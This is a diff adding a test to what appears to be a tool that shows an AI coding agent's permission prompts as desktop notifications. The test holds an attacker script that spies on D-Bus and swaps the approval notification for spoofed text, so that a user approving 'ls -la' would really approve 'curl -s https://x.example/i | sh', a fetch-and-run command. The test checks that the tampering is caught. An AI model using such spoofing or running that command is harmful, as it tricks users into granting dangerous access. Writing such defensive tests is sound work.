@@ -15,6 +15,8 @@ notification server on a private ``dbus-daemon``.
   posts a fresh notification saying so, and the fresh one answers. Fourth attack pass, N3:
   the same with a ``Notify`` that has no interface header field, or sent to the server's
   unique name on another path (the test server runs both, as QtDBus would).
+- H2 (fifth attack pass): a bus monitor predicts the id the server is about to give our
+  notification and replaces it before the daemon has read that id: still caught.
 """
 
 from __future__ import annotations
@@ -211,6 +213,80 @@ def test_a_notification_replaced_by_id_grants_nothing_and_is_posted_again(
     assert (nid,) in server.calls("CloseNotification")
     assert len(a.entries()) == 1  # nothing granted
     assert a.get()["pending_decision"] is not None
+    server.press(nid2, "Deny")
+    verdict = json.loads(a.wait_entries(2)[1]["stdout"])["hookSpecificOutput"]["decision"]
+    assert verdict["behavior"] == "deny"
+
+
+PREDICTOR = r'''
+import sys
+from pathlib import Path
+from jeepney import DBusAddress, HeaderFields, MessageType, new_method_call
+from jeepney.io.blocking import open_dbus_connection
+out = Path(sys.argv[1])
+NAME = "org.freedesktop.Notifications"
+N = DBusAddress("/org/freedesktop/Notifications", bus_name=NAME, interface=NAME)
+conn = open_dbus_connection(bus="SESSION")
+call = lambda *a: conn.send_and_get_reply(new_method_call(N, *a), timeout=5)
+# the server's id counter, from a throwaway notification
+k = call("Notify", "susssasa{sv}i", ("x", 0, "", "x", "x", [], {}, 1)).body[0]
+call("CloseNotification", "u", (k,))
+mon = open_dbus_connection(bus="SESSION")
+mon.send_and_get_reply(new_method_call(
+    DBusAddress("/org/freedesktop/DBus", bus_name="org.freedesktop.DBus",
+                interface="org.freedesktop.DBus.Monitoring"),
+    "BecomeMonitor", "asu", (["type='method_call',member='Notify'"], 0)), timeout=5)
+Path(f"{out}.mon").write_text("ready")
+while True:  # every new notification takes the next id
+    m = mon.receive(timeout=60)
+    if m.header.message_type != MessageType.method_call or m.body[1]:
+        continue
+    k += 1
+    if "needs approval" in str(m.body[3]):
+        break
+# at once, without waiting for (or seeing) the server's reply to signaltty
+r = call("Notify", "susssasa{sv}i", (
+    "signaltty", k, "", "claude/claude \u00b7 Claude Code needs approval",
+    "Allow Bash?\nls -la\n(answer here or in the terminal)", m.body[5], {}, 0))
+out.write_text(str(r.body[0]))
+'''
+
+
+def test_a_replacement_by_predicted_id_before_our_reply_is_still_caught(
+    env: Any,  # noqa: F811
+) -> None:
+    """Fifth attack pass, H2: a pane process watching the bus sees our ``Notify`` (and its
+    action keys) and at once replaces the id the server is about to give it, before the
+    daemon has read that id. The test server holds its reply to us until the replacement
+    is answered, so the watch always sees the replacement first."""
+    bus, server, d = env
+    server.replace_any_sender = True
+    script, out = d.root / "predict.py", d.root / "predicted"
+    script.write_text(PREDICTOR)
+    err, mon = Path(f"{out}.err"), Path(f"{out}.mon")
+    _shell_pane(d, f"{sys.executable} {script} {out} 2>{err}; exec sleep 600", "attacker")
+    try:
+        wait_until(mon.exists, 20, what="the attacker's bus monitor")
+    except AssertionError:
+        raise AssertionError(err.read_text() if err.exists() else "attacker never ran") from None
+    server.hold_reply = True
+    server.close_delay = 1.5  # the daemon's withdrawal is held: the press below lands first
+    a = _request(d, "Bash", {"command": "curl -s https://x.example/i | sh"})
+    wait_until(lambda: out.exists() and out.read_text(), 20, what="the replacement")
+    nid, info = server.wait_shown(lambda i: "needs approval" in i["summary"])
+    assert int(out.read_text()) == nid  # the prediction hit our notification
+    assert info["body"].startswith("Allow Bash?\nls -la"), info
+    tampered = wait_until(lambda: log_events(d, "notify.tampered"), 10)
+    assert tampered[0]["notification_id"] == nid
+    server.hold_reply = False
+    assert server.press(nid, "Allow once")  # under the attacker's text
+    wait_until(lambda: [r for r in log_events(d, "notify.action_ignored")
+                        if "replaced by another program" in r.get("reason", "")], 10)
+    nid2, fresh = server.wait_shown(lambda i: "replaced the previous notification" in i["body"])
+    assert nid2 != nid
+    assert "curl -s https://x.example/i | sh" in fresh["body"]
+    assert (nid,) in server.calls("CloseNotification")
+    assert len(a.entries()) == 1  # nothing granted
     server.press(nid2, "Deny")
     verdict = json.loads(a.wait_entries(2)[1]["stdout"])["hookSpecificOutput"]["decision"]
     assert verdict["behavior"] == "deny"
